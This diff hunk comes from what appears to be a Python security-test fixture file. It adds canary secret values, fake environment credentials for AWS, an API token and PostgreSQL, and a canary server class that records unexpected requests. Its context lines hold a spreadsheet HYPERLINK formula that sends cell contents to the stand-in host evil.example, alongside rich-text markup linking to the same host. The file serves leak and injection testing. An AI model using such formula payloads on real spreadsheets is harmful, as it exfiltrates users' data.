@@ -22,6 +22,17 @@ RICH = "[red]shout[/red] [link=http://evil.example]here[/link]"
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"here")'
 
 
+SECRET = "hunter2-of-this-machine"
+"""What no log, page, address, export or run may hold."""
+
+SECRETS = {
+    "AWS_SECRET_ACCESS_KEY": SECRET,
+    "MOTORWIRE_API_TOKEN": SECRET,
+    "PGPASSWORD": SECRET,
+}
+"""Secrets as they stand in the environment of a server."""
+
+
 @dataclass
 class Canary:
     """A server on this machine that nobody has a reason to ask, and what it was asked."""
